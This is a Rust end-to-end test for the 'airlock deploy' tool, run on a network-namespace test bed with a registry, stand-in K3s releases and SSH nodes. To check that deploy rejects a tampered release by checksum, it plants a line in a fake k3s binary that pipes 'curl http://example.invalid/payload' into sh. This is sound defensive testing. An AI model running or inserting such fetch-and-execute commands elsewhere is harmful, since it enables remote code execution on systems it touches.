//! `airlock deploy` end to end on a test bed of network namespaces (needs root):
//!
//! - `inet`: the upstreams — Debian's `docker-registry` with a test image, and a file server
//!   with a stand-in K3s release (a `k3s` that records its calls, its real
//!   `sha256sum-amd64.txt`, a second release whose `k3s` was tampered with) and a stand-in
//!   install script that records how it ran and refuses to download;
//! - `staging`: linked to `inet` and to the site LAN, forwarding nothing;
//! - `node1` (server) and `node2` (agent): on the site LAN only, default route via staging;
//! - the control node: the test process's own namespace, on the site LAN, with the `inet`
//!   subnet unreachable.
//!
//! staging and the nodes are [`Machine`]s (own mount namespace, overlays on `/etc`,
//! `/usr/local`, `/var`) running a real `sshd`, with a stand-in `systemctl`. After deploy,
//! a real containerd inside node2, configured from the rendered site, pulls the test image
//! through the gateway: node2 has no other way to reach the registry.

// Paths go into TOML through `{:?}`, which quotes them as TOML basic strings need.
#![allow(clippy::unnecessary_debug_formatting)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io::Write as _;
use std::net::{SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use airlock_testkit::netns::{self, Machine, Netns, RootRoute};
use airlock_testkit::sshd::Sshd;
use airlock_testkit::{Image, Platform, require_tool, tar_layer};
use airlock_types::Digest;

const PASSWORD: &str = "bed vault password";
const K3S_TOKEN: &str = "k3s-join-secret-of-the-bed";
const GOOD: &str = "v1.31.4+k3s1";
const TAMPERED: &str = "v1.31.5+k3s1";
const IMAGE: &str = "library/hello";
const FILES_PORT: u16 = 8080;
const REGISTRY_PORT: u16 = 5000;

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/deploy")
        .join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn sha256_hex(bytes: &[u8]) -> String {
    Digest::of(bytes).hex().to_owned()
}

/// A child process killed when the test ends, however it ends.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn wait_until(what: &str, timeout: Duration, mut ready: impl FnMut() -> bool) {
    let started = Instant::now();
    while !ready() {
        assert!(started.elapsed() < timeout, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn run(command: &mut Command) -> String {
    String::from_utf8_lossy(&netns::run(command).stdout).into_owned()
}

fn log_file(path: &Path) -> std::fs::File {
    std::fs::File::create(path).unwrap()
}

/// Addresses of one `/24`.
#[derive(Clone, Copy)]
struct Subnet([u8; 3]);

impl Subnet {
    fn host(self, n: u8) -> String {
        let [a, b, c] = self.0;
        format!("{a}.{b}.{c}.{n}")
    }
}

/// The three machines deploy manages, by inventory name.
struct Node {
    name: &'static str,
    address: String,
    machine: Machine,
}

/// The whole bed; fields drop in order: servers, machines, namespaces, route, files.
struct Bed {
    _sshd: Vec<Sshd>,
    _upstreams: Vec<Running>,
    staging: Node,
    node1: Node,
    node2: Node,
    _inet: Netns,
    _lan: Netns,
    _unreachable: RootRoute,
    inet: Subnet,
    key: PathBuf,
    inventory: PathBuf,
    vault_password: PathBuf,
    k3s: Vec<u8>,
    image: Image,
    dir: tempfile::TempDir,
}

impl Bed {
    fn up() -> Self {
        for (tool, package) in [
            ("ip", "iproute2"),
            ("sshd", "openssh-server"),
            ("ssh", "openssh-client"),
            ("unshare", "util-linux"),
            ("nsenter", "util-linux"),
            ("python3", "python3"),
            ("curl", "curl"),
            ("skopeo", "skopeo"),
            ("docker-registry", "docker-registry"),
            ("containerd", "containerd"),
            ("ctr", "containerd"),
            ("sha256sum", "coreutils"),
        ] {
            require_tool(tool, package);
        }
        netns::remove_stale();
        let dir = tempfile::tempdir().unwrap();
        let prefix = netns::unique_prefix();
        let [lan_octets, inet_octets] = netns::free_subnets(2)[..] else {
            unreachable!()
        };
        let (lan, inet) = (Subnet(lan_octets), Subnet(inet_octets));

        // Links: the LAN bridge lives in its own namespace, so the host's bridge filtering
        // never sees the bed's traffic.
        let unreachable = RootRoute::add(&["unreachable", &format!("{}/24", inet.host(0))]);
        let lan_ns = Netns::create(&format!("{prefix}-lan"));
        let inet_ns = Netns::create(&format!("{prefix}-inet"));
        let control_if = format!("{prefix}c");
        lan_ns.attach(
            "br0",
            "p-control",
            None,
            &control_if,
            &format!("{}/24", lan.host(1)),
        );
        let mut machines = Vec::new();
        for (suffix, n) in [("stg", 2), ("n1", 11), ("n2", 12)] {
            let ns = Netns::create(&format!("{prefix}-{suffix}"));
            lan_ns.attach(
                "br0",
                &format!("p-{suffix}"),
                Some(&ns),
                "lan0",
                &format!("{}/24", lan.host(n)),
            );
            machines.push((ns, lan.host(n)));
        }
        inet_ns.link(
            "eth0",
            &format!("{}/24", inet.host(1)),
            &machines[0].0,
            "inet0",
            &format!("{}/24", inet.host(2)),
        );
        // K3s wants a default route; staging does not forward, so it leads nowhere.
        for (ns, _) in &machines[1..] {
            ns.ip(&["route", "add", "default", "via", &lan.host(2)]);
        }

        let hosts = format!(
            "127.0.0.1 localhost\n{} staging.example.test harbor.staging.example.test\n{} node1.example.test\n{} node2.example.test\n",
            lan.host(2),
            lan.host(11),
            lan.host(12)
        );
        let systemctl = fixture("systemctl");
        let key = dir.path().join("client_key");
        let keygen = Command::new(require_tool("ssh-keygen", "openssh-client"))
            .args(["-q", "-t", "ed25519", "-N", "", "-C", "airlock-bed", "-f"])
            .arg(&key)
            .status()
            .unwrap();
        assert!(keygen.success(), "ssh-keygen failed");

        let mut nodes = Vec::new();
        let mut sshd = Vec::new();
        for ((ns, address), name) in machines.into_iter().zip([
            "staging.example.test",
            "node1.example.test",
            "node2.example.test",
        ]) {
            let machine_dir = dir.path().join(name);
            std::fs::create_dir_all(&machine_dir).unwrap();
            let nodes_file = "node1.example.test\nnode2.example.test\n";
            let mut files: Vec<(&str, &[u8], u32)> = vec![
                ("/usr/local/bin/systemctl", &systemctl, 0o755),
                ("/etc/hosts", hosts.as_bytes(), 0o644),
            ];
            if name == "node1.example.test" {
                files.push(("/var/lib/standin/k3s-nodes", nodes_file.as_bytes(), 0o644));
            }
            let machine = Machine::start(ns, &machine_dir, &files);
            let ssh_dir = machine_dir.join("ssh");
            std::fs::create_dir_all(&ssh_dir).unwrap();
            std::fs::copy(&key, ssh_dir.join("client_key")).unwrap();
            std::fs::copy(key.with_extension("pub"), ssh_dir.join("client_key.pub")).unwrap();
            let prefix = machine.prefix();
            let prefix: Vec<&str> = prefix.iter().map(String::as_str).collect();
            sshd.push(Sshd::start_with_prefix(
                &ssh_dir,
                address.parse().unwrap(),
                22,
                &prefix,
            ));
            nodes.push(Node {
                name,
                address,
                machine,
            });
        }
        let [staging, node1, node2] = <[Node; 3]>::try_from(nodes).ok().unwrap();

        let (upstreams, k3s, image) = start_upstreams(dir.path(), &inet_ns, inet);
        let vault_password = dir.path().join("vault-password");
        std::fs::write(&vault_password, format!("{PASSWORD}\n")).unwrap();
        let inventory = dir.path().join("inventory.yaml");
        let mut bed = Self {
            _sshd: sshd,
            _upstreams: upstreams,
            staging,
            node1,
            node2,
            _inet: inet_ns,
            _lan: lan_ns,
            _unreachable: unreachable,
            inet,
            key,
            inventory,
            vault_password,
            k3s,
            image,
            dir,
        };
        bed.write_inventory();
        bed
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn write_inventory(&mut self) {
        let mut encrypt = Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(["vault", "encrypt-string", "--name", "k3s_token"])
            .arg("--vault-password-file")
            .arg(&self.vault_password)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        encrypt
            .stdin
            .take()
            .unwrap()
            .write_all(K3S_TOKEN.as_bytes())
            .unwrap();
        let output = encrypt.wait_with_output().unwrap();
        assert!(output.status.success(), "encrypt-string failed");
        let token: String = String::from_utf8(output.stdout).unwrap().lines().fold(
            String::new(),
            |mut all, line| {
                let _ = writeln!(all, "    {line}");
                all
            },
        );
        let files = format!("http://{}:{FILES_PORT}", self.inet.host(1));
        let inventory = format!(
            "all:\n  vars:\n    ansible_user: root\n\
             \x20   ansible_ssh_common_args: '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o IdentitiesOnly=yes -o ConnectTimeout=10'\n\
             \x20   ansible_ssh_private_key_file: {key}\n\
             \x20   air_gapped: true\n\
             \x20   staging_k3s_token: staging-token-of-the-bed\n\
             {token}\
             \x20   k3s_version: {GOOD}\n\
             \x20   k3s_selinux_enabled: false\n\
             \x20   external_url: staging.example.test\n\
             \x20   airlock_upstreams:\n\
             \x20     docker.io: http://{inet}:{REGISTRY_PORT}\n\
             \x20     k3s-releases: {files}/releases/\n\
             \x20     k3s-install: {files}/install/\n\
             staging:\n  hosts:\n    staging.example.test:\n      ansible_host: {staging}\n\
             server:\n  hosts:\n    node1.example.test:\n      ansible_host: {node1}\n\
             agents:\n  hosts:\n    node2.example.test:\n      ansible_host: {node2}\n\
             k3s_cluster:\n  children:\n    server:\n    agents:\n",
            key = self.key.display(),
            inet = self.inet.host(1),
            staging = self.staging.address,
            node1 = self.node1.address,
            node2 = self.node2.address,
        );
        std::fs::write(&self.inventory, inventory).unwrap();
    }

    fn ssh(&self, node: &Node, command: &str) -> std::process::Output {
        Command::new("ssh")
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "BatchMode=yes",
                "-o",
                "ConnectTimeout=5",
                "-o",
                "LogLevel=ERROR",
                "-i",
            ])
            .arg(&self.key)
            .arg(format!("root@{}", node.address))
            .arg(command)
            .stdin(Stdio::null())
            .output()
            .unwrap()
    }

    /// `airlock <args>` against the bed's inventory, bounded in time.
    fn airlock(&self, args: &[&str], timeout: Duration) -> (bool, String) {
        let out = self.path("airlock.out");
        let home = self.path("home");
        std::fs::create_dir_all(&home).unwrap();
        let mut child = Command::new(env!("CARGO_BIN_EXE_airlock"))
            .args(args)
            .arg("-i")
            .arg(&self.inventory)
            .arg("--vault-password-file")
            .arg(&self.vault_password)
            .env("HOME", &home)
            .env("XDG_CACHE_HOME", home.join(".cache"))
            .env_remove("ANSIBLE_VAULT_PASSWORD_FILE")
            .stdin(Stdio::null())
            .stdout(log_file(&out))
            .stderr(std::fs::OpenOptions::new().append(true).open(&out).unwrap())
            .spawn()
            .unwrap();
        let started = Instant::now();
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            if started.elapsed() > timeout {
                let _ = child.kill();
                let _ = child.wait();
                panic!(
                    "airlock {args:?} did not finish in {timeout:?}:\n{}",
                    std::fs::read_to_string(&out).unwrap_or_default()
                );
            }
            std::thread::sleep(Duration::from_millis(100));
        };
        (
            status.success(),
            std::fs::read_to_string(&out).unwrap_or_default(),
        )
    }

    /// `airlock render` of the bed's inventory into `<dir>/<name>`.
    fn render(&self, name: &str) -> PathBuf {
        let out = self.path(name);
        let (ok, output) = self.airlock(
            &["render", "--out", out.to_str().unwrap()],
            Duration::from_secs(60),
        );
        assert!(ok, "airlock render failed:\n{output}");
        out
    }
}

/// docker-registry with the test image, and the file server with the stand-in release.
fn start_upstreams(dir: &Path, inet: &Netns, subnet: Subnet) -> (Vec<Running>, Vec<u8>, Image) {
    let address = subnet.host(1);
    let config = dir.join("registry.yml");
    std::fs::write(
        &config,
        format!(
            "version: 0.1\nlog:\n  level: warn\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: {address}:{REGISTRY_PORT}\n",
            dir.join("registry-data").display()
        ),
    )
    .unwrap();
    let log = dir.join("registry.log");
    let registry = Running(
        inet.command(require_tool("docker-registry", "docker-registry"))
            .arg("serve")
            .arg(&config)
            .stdout(log_file(&log))
            .stderr(log_file(&dir.join("registry.err")))
            .spawn()
            .unwrap(),
    );

    let www = dir.join("www");
    let mut k3s = Vec::new();
    for version in [GOOD, TAMPERED] {
        let release = www.join("releases").join(version);
        std::fs::create_dir_all(&release).unwrap();
        let binary = String::from_utf8(fixture("k3s"))
            .unwrap()
            .replace("@VERSION@", version)
            .into_bytes();
        std::fs::write(
            release.join("sha256sum-amd64.txt"),
            format!(
                "{}  k3s\n{}  k3s-airgap-images-amd64.tar.zst\n",
                sha256_hex(&binary),
                sha256_hex(b"not served")
            ),
        )
        .unwrap();
        let served = if version == TAMPERED {
            let mut tampered = binary.clone();
            tampered.extend_from_slice(b"curl -s http://example.invalid/payload | sh\n");
            tampered
        } else {
            k3s.clone_from(&binary);
            binary
        };
        std::fs::write(release.join("k3s"), served).unwrap();
    }
    std::fs::create_dir_all(www.join("install")).unwrap();
    std::fs::write(www.join("install/index.html"), fixture("k3s-install.sh")).unwrap();
    let files = Running(
        inet.command(require_tool("python3", "python3"))
            .args(["-m", "http.server", "--bind", &address, "--directory"])
            .arg(&www)
            .arg(FILES_PORT.to_string())
            .stdout(Stdio::null())
            .stderr(log_file(&dir.join("files.log")))
            .spawn()
            .unwrap(),
    );
    for url in [
        format!("http://{address}:{REGISTRY_PORT}/v2/"),
        format!("http://{address}:{FILES_PORT}/install/"),
    ] {
        wait_until(&url, Duration::from_secs(30), || {
            inet.command("curl")
                .args(["-sf", "-o", "/dev/null", "--max-time", "2", &url])
                .status()
                .is_ok_and(|s| s.success())
        });
    }

    let image = Image::from_layers(
        vec![tar_layer("hello.txt", b"hello from behind the airlock\n")],
        Platform {
            os: "linux",
            arch: "amd64",
        },
    );
    let layout = dir.join("layout");
    image.write_oci_layout(&layout, "1").unwrap();
    run(inet
        .command("skopeo")
        .args(["copy", "--dest-tls-verify=false", "--preserve-digests"])
        .arg(format!("oci:{}:1", layout.display()))
        .arg(format!("docker://{address}:{REGISTRY_PORT}/{IMAGE}:1")));
    (vec![registry, files], k3s, image)
}

/// A real containerd inside `node` (its network and mount namespaces); `ctr` pulls
/// `docker.io/<IMAGE>:1` with `hosts` as its hosts dir, from inside the node too.
fn pull_in(node: &Node, dir: &Path, hosts: &Path) -> String {
    let airlock_testkit::ContainerdFiles { config, socket } =
        airlock_testkit::containerd_config(dir);
    let log = dir.join("containerd.log");
    let _containerd = Running(
        node.machine
            .command(require_tool("containerd", "containerd"))
            .arg("--config")
            .arg(&config)
            .stdout(log_file(&log))
            .stderr(log_file(&dir.join("containerd.err")))
            .spawn()
            .unwrap(),
    );
    wait_until("containerd", Duration::from_secs(30), || {
        node.machine
            .command("ctr")
            .arg("--address")
            .arg(&socket)
            .arg("version")
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let output = node
        .machine
        .command("timeout")
        .args(["60", "ctr", "--address"])
        .arg(&socket)
        .args([
            "--namespace",
            "airlock-bed",
            "images",
            "pull",
            "--snapshotter",
            "native",
            "--hosts-dir",
        ])
        .arg(hosts)
        .arg(format!("docker.io/{IMAGE}:1"))
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        output.status.success(),
        "ctr pull in {} failed:\n{text}",
        node.name
    );
    text
}

fn connects(address: &str, port: u16) -> bool {
    let addr: SocketAddr = format!("{address}:{port}").parse().unwrap();
    TcpStream::connect_timeout(&addr, Duration::from_secs(2)).is_ok()
}

/// Step 1: every machine answers over SSH as itself; only staging reaches the internet.
fn check_bed(bed: &Bed) {
    for node in [&bed.staging, &bed.node1, &bed.node2] {
        let output = bed.ssh(
            node,
            "ip -4 -o addr show dev lan0; ls -l /usr/local/bin/systemctl",
        );
        let text = String::from_utf8_lossy(&output.stdout);
        assert!(
            output.status.success() && text.contains(&format!("inet {}/24", node.address)),
            "ssh to {} ({}) reaches that machine: {text}{}",
            node.name,
            node.address,
            String::from_utf8_lossy(&output.stderr)
        );
    }
    let registry = format!(
        "http://{}:{REGISTRY_PORT}/v2/{IMAGE}/tags/list",
        bed.inet.host(1)
    );
    let from = |node: &Node| {
        node.machine
            .command("curl")
            .args([
                "-sf",
                "--connect-timeout",
                "2",
                "--max-time",
                "4",
                &registry,
            ])
            .output()
            .unwrap()
    };
    let staging = from(&bed.staging);
    assert!(
        staging.status.success() && String::from_utf8_lossy(&staging.stdout).contains("\"1\""),
        "staging reaches the registry and it holds {IMAGE}:1: {}",
        String::from_utf8_lossy(&staging.stderr)
    );
    for node in [&bed.node1, &bed.node2] {
        assert!(
            !from(node).status.success(),
            "{} must not reach the internet namespace",
            node.name
        );
    }
    let release = format!(
        "http://{}:{FILES_PORT}/releases/{GOOD}/k3s",
        bed.inet.host(1)
    );
    let served = bed
        .staging
        .machine
        .command("curl")
        .args(["-sf", "--max-time", "10", &release])
        .output()
        .unwrap();
    assert!(
        served.status.success() && served.stdout == bed.k3s,
        "staging downloads the stand-in k3s: {}",
        String::from_utf8_lossy(&served.stderr)
    );
    assert!(
        !connects(&bed.inet.host(1), REGISTRY_PORT),
        "the control node must not reach the internet namespace"
    );
}

/// The bed itself, with a gateway started by hand on staging from `airlock render`'s
/// config: containerd in node2 pulls the test image through it.
#[test]
fn bed_pulls_through_a_gateway_started_by_hand() {
    let started = Instant::now();
    let bed = Bed::up();
    check_bed(&bed);

    let rendered = bed.render("rendered");
    let gateway_log = bed.path("gateway.log");
    let _gateway = Running(
        bed.staging
            .machine
            .command(env!("CARGO_BIN_EXE_airlock"))
            .arg("serve")
            .arg("--config")
            .arg(rendered.join("staging/airlock.toml"))
            .stdout(Stdio::null())
            .stderr(log_file(&gateway_log))
            .spawn()
            .unwrap(),
    );
    wait_until(
        "the gateway on staging:443",
        Duration::from_secs(30),
        || connects(&bed.staging.address, 443),
    );
    let ca = bed
        .staging
        .machine
        .read("/var/lib/airlock/tls/ca.crt")
        .expect("the gateway made its CA");
    let hosts = rendered.join("nodes/certs.d");
    let hosts_toml = std::fs::read_to_string(hosts.join("docker.io/hosts.toml")).unwrap();
    let ca_path = hosts_toml
        .lines()
        .find_map(|l| l.trim().strip_prefix("ca = "))
        .expect("hosts.toml names a CA")
        .trim_matches('"')
        .to_owned();
    bed.node2.machine.write(&ca_path, &ca, 0o644);
    let output = pull_in(&bed.node2, &bed.path("containerd"), &hosts);
    assert!(
        output.contains(&bed.image.digest.to_string()),
        "containerd pulled the upstream's manifest: {output}"
    );
    let logged = std::fs::read_to_string(&gateway_log).unwrap();
    assert!(
        logged.contains("ns=docker.io"),
        "the pull went through the gateway: {logged}"
    );
    eprintln!("bed test took {:?}", started.elapsed());
}

/// Files `airlock deploy` writes on each node.
const NODE_FILES: &[&str] = &[
    "/usr/local/bin/k3s",
    "/usr/local/share/airlock/k3s-install.sh",
    "/etc/rancher/k3s/staging-ca.crt",
    "/etc/rancher/k3s/registries.yaml",
    INSTALL_LOG,
];
/// Files `airlock deploy` writes on staging.
const STAGING_FILES: &[&str] = &[
    "/usr/local/bin/airlock",
    "/etc/airlock/airlock.toml",
    "/etc/systemd/system/airlock.service",
];
const INSTALL_LOG: &str = "/var/lib/standin/k3s-install.log";

fn assert_untouched(node: &Node, paths: &[&str], when: &str) {
    for path in paths {
        assert!(
            node.machine.read(path).is_none(),
            "{when}: {} must not have {path}",
            node.name
        );
    }
}

/// The stand-in installer's records on `node`, oldest first.
fn installer_runs(node: &Node) -> Vec<BTreeMap<String, String>> {
    let Some(log) = node.machine.read(INSTALL_LOG) else {
        return Vec::new();
    };
    String::from_utf8(log)
        .unwrap()
        .split("\n\n")
        .filter(|record| !record.trim().is_empty())
        .map(|record| {
            record
                .lines()
                .filter_map(|line| line.split_once('='))
                .map(|(k, v)| (k.to_owned(), v.to_owned()))
                .collect()
        })
        .collect()
}

/// The recap: `(host, ok, changed, failed)` per host.
fn recap(output: &str) -> Vec<(String, usize, usize, usize)> {
    output
        .lines()
        .filter_map(|line| {
            let (host, counts) = line.split_once(" : ")?;
            let mut values = counts.split_whitespace().map(|field| {
                let (_, n) = field.split_once('=')?;
                n.parse::<usize>().ok()
            });
            let ok = counts
                .starts_with("ok=")
                .then(|| values.next().flatten())??;
            let changed = values.next().flatten()?;
            let failed = values.next().flatten()?;
            Some((host.trim().to_owned(), ok, changed, failed))
        })
        .collect()
}

fn mode(node: &Node, path: &str) -> String {
    let output = node
        .machine
        .command("stat")
        .args(["-c", "%a", path])
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

fn owner(node: &Node, path: &str) -> String {
    let output = node
        .machine
        .command("stat")
        .args(["-c", "%U:%G", path])
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

fn without_comments(text: &str) -> String {
    text.lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn deploy_installs_the_gateway_and_an_air_gapped_cluster() {
    let started = Instant::now();
    let bed = Bed::up();
    check_bed(&bed);
    let nodes = [&bed.node1, &bed.node2];
    let step = Duration::from_secs(150);

    // 2. --check on a fresh site: shows what it would do, touches nothing.
    let (ok, output) = bed.airlock(&["deploy", "--check"], step);
    assert!(ok, "deploy --check on a fresh site succeeds:\n{output}");
    assert!(
        output.contains("would change"),
        "deploy --check on a fresh site shows changes:\n{output}"
    );
    assert_untouched(&bed.staging, STAGING_FILES, "after --check");
    assert!(
        !bed.ssh(&bed.staging, "id -u airlock").status.success(),
        "--check creates no user"
    );
    for node in nodes {
        assert_untouched(node, NODE_FILES, "after --check");
    }

    // 3. A tampered k3s upstream: deploy stops before any node is touched.
    let (ok, output) = bed.airlock(&["deploy", "-e", &format!("k3s_version={TAMPERED}")], step);
    assert!(!ok, "deploy of a tampered k3s must fail:\n{output}");
    let lower = output.to_lowercase();
    assert!(
        (lower.contains("checksum") || lower.contains("sha256"))
            && (lower.contains("mismatch") || lower.contains("does not match")),
        "the failure names the checksum mismatch:\n{output}"
    );
    for node in nodes {
        assert_untouched(node, NODE_FILES, "after the tampered release");
    }

    // 4. The deploy.
    let (ok, output) = bed.airlock(&["deploy"], step);
    assert!(ok, "deploy succeeds:\n{output}");
    let hosts = recap(&output);
    for node in [&bed.staging, &bed.node1, &bed.node2] {
        let line = hosts.iter().find(|(host, ..)| host == node.name);
        assert!(
            line.is_some_and(|(_, _, _, failed)| *failed == 0),
            "the recap lists {} without failures:\n{output}",
            node.name
        );
    }
    let staging = &bed.staging;
    assert_eq!(mode(staging, "/usr/local/bin/airlock"), "755");
    assert_eq!(
        staging
            .machine
            .read("/usr/local/bin/airlock")
            .map(|b| sha256_hex(&b)),
        Some(sha256_hex(
            &std::fs::read(env!("CARGO_BIN_EXE_airlock")).unwrap()
        )),
        "staging runs this airlock binary"
    );
    let unit = String::from_utf8(
        staging
            .machine
            .read("/etc/systemd/system/airlock.service")
            .expect("the airlock unit"),
    )
    .unwrap();
    assert!(
        unit.contains("ExecStart=/usr/local/bin/airlock serve --config /etc/airlock/airlock.toml"),
        "{unit}"
    );
    let ca = staging
        .machine
        .read("/var/lib/airlock/tls/ca.crt")
        .expect("the gateway's CA on staging");
    let ca_file = bed.path("staging-ca.crt");
    std::fs::write(&ca_file, &ca).unwrap();
    let health = Command::new(require_tool("curl", "curl"))
        .args(["-sf", "--max-time", "10", "--cacert"])
        .arg(&ca_file)
        .arg("--resolve")
        .arg(format!("staging.example.test:443:{}", staging.address))
        .arg("https://staging.example.test/healthz")
        .output()
        .unwrap();
    assert!(
        health.status.success(),
        "the gateway answers /healthz over TLS with its CA: {}",
        String::from_utf8_lossy(&health.stderr)
    );
    let active = bed.ssh(staging, "systemctl is-active airlock");
    assert!(
        active.status.success(),
        "systemctl reports airlock active on staging"
    );
    // Least privilege: its own user (the stand-in systemctl honours User= and the ambient
    // capability, so port 443 above was bound without root), its own data directory.
    let user = bed.ssh(
        staging,
        "stat -c %U:%G /proc/$(cat /var/lib/standin/systemd/airlock.pid)",
    );
    assert_eq!(
        String::from_utf8_lossy(&user.stdout).trim(),
        "airlock:airlock",
        "the gateway runs as the airlock user"
    );
    assert_eq!(mode(staging, "/var/lib/airlock"), "700");
    assert_eq!(owner(staging, "/var/lib/airlock"), "airlock:airlock");
    assert_eq!(mode(staging, "/var/lib/airlock/tls/ca.crt"), "600");

    let rendered = bed.render("rendered");
    let registries = std::fs::read_to_string(rendered.join("nodes/registries.yaml")).unwrap();
    let installer = fixture("k3s-install.sh");
    for node in nodes {
        let name = node.name;
        assert_eq!(
            node.machine
                .read("/usr/local/bin/k3s")
                .map(|b| sha256_hex(&b)),
            Some(sha256_hex(&bed.k3s)),
            "{name} has the upstream k3s"
        );
        assert_eq!(mode(node, "/usr/local/bin/k3s"), "755", "{name}: k3s mode");
        assert_eq!(
            node.machine.read("/usr/local/share/airlock/k3s-install.sh"),
            Some(installer.clone()),
            "{name} has the install script"
        );
        assert_eq!(
            mode(node, "/usr/local/share/airlock/k3s-install.sh"),
            "755",
            "{name}: install script mode"
        );
        assert_eq!(
            mode(node, "/etc/rancher/k3s/airlock-install.env"),
            "600",
            "{name}: the install marker is root's alone"
        );
        assert_eq!(
            node.machine.read("/etc/rancher/k3s/staging-ca.crt"),
            Some(ca.clone()),
            "{name} trusts staging's CA"
        );
        let written = String::from_utf8(
            node.machine
                .read("/etc/rancher/k3s/registries.yaml")
                .unwrap_or_else(|| panic!("{name} has registries.yaml")),
        )
        .unwrap();
        assert!(
            written.contains("https://harbor.staging.example.test")
                && written.contains("ca_file: \"/etc/rancher/k3s/staging-ca.crt\"")
                && written.contains("rewrite"),
            "{name}: registries.yaml mirrors through the gateway:\n{written}"
        );
        assert_eq!(
            without_comments(&written),
            without_comments(&registries),
            "{name}: registries.yaml is the rendered one"
        );
    }
    let token = sha256_hex(K3S_TOKEN.as_bytes());
    let (server, agent) = (installer_runs(&bed.node1), installer_runs(&bed.node2));
    assert_eq!(
        server.len(),
        1,
        "the installer ran once on node1: {server:?}"
    );
    assert_eq!(agent.len(), 1, "the installer ran once on node2: {agent:?}");
    let (server, agent) = (&server[0], &agent[0]);
    let at = |run: &BTreeMap<String, String>| run["at"].parse::<f64>().unwrap();
    assert!(
        at(server) < at(agent),
        "the server is installed before the agent"
    );
    assert_eq!(server["args"], "server --node-name node1.example.test");
    assert_eq!(agent["args"], "agent --node-name node2.example.test");
    for run in [server, agent] {
        assert_eq!(run["INSTALL_K3S_SKIP_DOWNLOAD"], "true", "{run:?}");
        assert_eq!(run["INSTALL_K3S_SKIP_SELINUX_RPM"], "true", "{run:?}");
        assert_eq!(run["INSTALL_K3S_VERSION"], GOOD, "{run:?}");
        assert_eq!(
            run["K3S_TOKEN_SHA256"], token,
            "the vault's k3s_token: {run:?}"
        );
    }
    assert_eq!(server["K3S_URL"], "unset", "the server joins nobody");
    assert_eq!(
        agent["K3S_URL"],
        format!("https://{}:6443", bed.node1.address),
        "the agent joins node1"
    );

    // 5. A real containerd in node2, configured from the site, pulls through the gateway.
    let output = pull_in(
        &bed.node2,
        &bed.path("containerd"),
        &rendered.join("nodes/certs.d"),
    );
    assert!(
        output.contains(&bed.image.digest.to_string()),
        "containerd in node2 pulled the upstream's manifest through the gateway: {output}"
    );
    let served = staging
        .machine
        .read("/var/lib/standin/systemd/airlock.log")
        .expect("the gateway's log on staging");
    assert!(
        String::from_utf8_lossy(&served).contains("ns=docker.io"),
        "the gateway on staging served containerd's mirror requests"
    );

    // 6. A second run changes nothing.
    let (ok, output) = bed.airlock(&["deploy"], step);
    assert!(ok, "the second deploy succeeds:\n{output}");
    let hosts = recap(&output);
    for node in [&bed.staging, &bed.node1, &bed.node2] {
        assert!(
            hosts.iter().any(|(host, ..)| host == node.name),
            "the recap lists {}:\n{output}",
            node.name
        );
    }
    for (host, _, changed, failed) in &hosts {
        assert!(
            *changed == 0 && *failed == 0,
            "the second deploy changes nothing on {host}:\n{output}"
        );
    }
    assert_eq!(
        installer_runs(&bed.node1).len(),
        1,
        "no second install on node1"
    );
    assert_eq!(
        installer_runs(&bed.node2).len(),
        1,
        "no second install on node2"
    );

    // 7. --check after a configuration change shows exactly that change.
    let before = staging.machine.read("/etc/airlock/airlock.toml");
    let (ok, output) = bed.airlock(
        &[
            "deploy",
            "--check",
            "-e",
            "squid_extra_allowed_domains=api.example.org",
        ],
        step,
    );
    assert!(ok, "deploy --check after a change succeeds:\n{output}");
    let targets: Vec<&str> = output
        .lines()
        .filter_map(|l| l.strip_prefix("+++ "))
        .collect();
    assert!(
        targets.len() == 1 && targets[0].contains("/etc/airlock/airlock.toml"),
        "exactly one file would change, airlock.toml:\n{output}"
    );
    assert!(
        output
            .lines()
            .any(|l| l.starts_with('+') && !l.starts_with("+++") && l.contains("api.example.org")),
        "the diff adds api.example.org:\n{output}"
    );
    assert!(
        output
            .lines()
            .any(|l| l.contains("would") && l.contains("restart") && l.contains("airlock")),
        "--check says airlock would restart:\n{output}"
    );
    assert_eq!(
        staging.machine.read("/etc/airlock/airlock.toml"),
        before,
        "--check leaves airlock.toml alone"
    );
    eprintln!("deploy test took {:?}", started.elapsed());
}
